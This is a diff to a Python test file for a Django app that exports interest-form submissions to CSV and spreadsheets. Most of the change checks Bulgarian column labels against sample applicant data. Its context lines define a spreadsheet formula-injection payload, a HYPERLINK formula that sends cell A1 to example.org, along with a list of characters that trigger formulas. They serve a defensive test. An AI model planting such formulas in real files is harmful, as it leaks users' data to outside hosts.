@@ -8,12 +8,21 @@ from datetime import date
 
 import openpyxl
 import pytest
-from django.utils.translation import override
+from django.contrib.gis.geos import Point
 
 from interest_forms.interest.triage import export
 from interest_forms.models import ExpressionOfInterest
-from tests.factories import ActionGroupFactory, MembershipFactory
-from tests.interest_factories import ApplicantFactory, ExpressionOfInterestFactory
+from tests.factories import (
+    MembershipFactory,
+    PlaceFactory,
+    SettlementFactory,
+    TraditionFactory,
+)
+from tests.interest_factories import (
+    ApplicantFactory,
+    ExpressionOfInterestFactory,
+    InterestCallFactory,
+)
 
 pytestmark = pytest.mark.django_db
 
@@ -21,13 +30,7 @@ TABLE = "/admin/interest_forms/expressionofinterest/"
 FORMULA = 'HYPERLINK("https://example.org?"&A1,"виж")'
 TWINS = [chr(ord(sign) + 0xFEE0) for sign in "=+-@"]
 SIGNS = [*"=+-@", *TWINS, "\t=", " =", "\u00a0+", "\r\n@", "|", "%"]
-ASKED = ["fixed dates", "best times", "what may be made", "best reached", "whose it is"]
 OFFICE = shutil.which("soffice") or "soffice"
-
-
-@pytest.fixture
-def group():
-    return ActionGroupFactory()
 
 
 @pytest.fixture
@@ -84,24 +87,73 @@ def test_spreadsheet_holds_every_cell_as_text(client, staff, group, forms):
     }
 
 
-def test_every_answer_of_a_form_has_its_column(group):
+def test_every_answer_of_a_form_has_its_column(client, staff, group):
+    call = InterestCallFactory(group=group, name_bg="Старите занаяти")
     form = ExpressionOfInterestFactory(
-        group=group, months=[5], weekdays=[5], offers=["3d"], materials_rights="own"
+        group=group,
+        call=call,
+        code="001002003",
+        received="2026-11-21T12:00+02:00",
+        title="Тепавицата",
+        description="Работи още.",
+        territory=SettlementFactory(name_bg="Белчин", kind="village", parent=None),
+        place=PlaceFactory(name_bg="Долната махала"),
+        place_text="край реката",
+        point=Point(23.36, 42.36, srid=4326),
+        tradition=TraditionFactory(name_bg="Тъкане"),
+        months=[5],
+        weekdays=[5],
+        from_hour="10:00",
+        until_hour="12:30",
+        offers=["3d"],
+        materials="Един албум.",
+        materials_rights="own",
+        accessibility="Има паркинг.",
+        naming_agreed=False,
+        score="3.50",
     )
     form.fixed_dates.create(day=date(2027, 5, 6), last_day=date(2027, 5, 7))
-    ApplicantFactory(form=form, preferred="visit")
+    ApplicantFactory(
+        form=form,
+        organisation="Читалище",
+        eik="000696327",
+        email="maria@example.org",
+        preferred="visit",
+    )
 
-    with override("en"):
-        (row,) = as_told(group)
-        names = export.heads()
+    text = exported(client, [form], "export").decode("utf-8-sig")
 
-    told = dict(zip(names, row, strict=True))
-    assert [told[name] for name in ASKED] == [
-        "6–7 May 2027",
-        "May; Saturday",
-        "a 3D model",
-        "in person",
-        "they are mine",
+    names, told = csv.reader(io.StringIO(text, newline=""))
+    assert list(zip(names, told, strict=True)) == [
+        ("код", "001002003"),
+        ("получено", "2026-11-21 12:00"),
+        ("състояние", "получено"),
+        ("име на обекта", "Тепавицата"),
+        ("вид", "забележителност"),
+        ("за него", "Работи още."),
+        ("населено място", "Белчин"),
+        ("място", "Долната махала"),
+        ("мястото с думи", "край реката"),
+        ("местоположение", "42.360000, 23.360000"),
+        ("покана", "Старите занаяти"),
+        ("празник от календара", "Тъкане"),
+        ("твърди дати", "6–7 май 2027"),
+        ("удобно време", "май; събота; 10:00–12:30"),
+        ("какво може да се направи", "3D модел"),
+        ("заявителят е", "собственик"),
+        ("име", "Мария Петрова"),
+        ("организация", "Читалище"),
+        ("ЕИК", "000696327"),
+        ("телефон", "0888 123 456"),
+        ("имейл", "maria@example.org"),
+        ("най-лесно се намира", "лично"),
+        ("какво вече има", "Един албум."),
+        ("чие е", "мои са"),
+        ("достъп и придвижване", "Има паркинг."),
+        ("съгласен е да се снима", "да"),
+        ("съгласие да е назован в публичния график", "не"),
+        ("оценка", "3.50"),
+        ("език", "bg"),
     ]
 
 
